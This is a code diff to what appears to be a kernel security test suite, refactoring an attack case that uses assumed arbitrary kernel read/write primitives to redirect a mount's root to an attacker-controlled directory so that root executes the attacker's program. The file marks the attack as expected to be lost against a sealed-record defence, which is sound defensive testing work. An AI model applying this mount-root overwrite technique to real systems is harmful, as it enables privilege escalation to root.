@@ -6,23 +6,14 @@ ATTACK("cred_integrity", "mount_other_root", "LOST",
        "What a mount shows, and where, is read from its sealed record.",
        "Root runs the attacker's program.");
 
-static bool control(void)
-{
-	return is_ordinary();
-}
-
 static bool fire(void)
 {
 	const uint64_t path = member("file.path");
-	uint64_t shown, place;
+	const long shown = call3(__NR_open, (long)"/jobs", O_RDONLY | O_DIRECTORY, 0);
+	const uint64_t mount =
+		peek(file_struct(own_task(), (int)shown) + path + member("path.mount"));
 
-	make_own_program();
-	call2(__NR_mkdir, (long)"/tmp/place", 0755);
-	call2(__NR_rename, (long)MINE, (long)"/tmp/place/helper");
-	place = dentry_of(call3(__NR_open, (long)"/tmp/place", O_RDONLY | O_DIRECTORY, 0));
-	shown = file_struct(own_task(),
-			    (int)call3(__NR_open, (long)"/jobs", O_RDONLY | O_DIRECTORY, 0));
-	poke(peek(shown + path + member("path.mount")) + member("mount.root"), place);
+	poke(mount + member("mount.root"), make_own_place());
 	wait_for_root();
 	return false;
 }
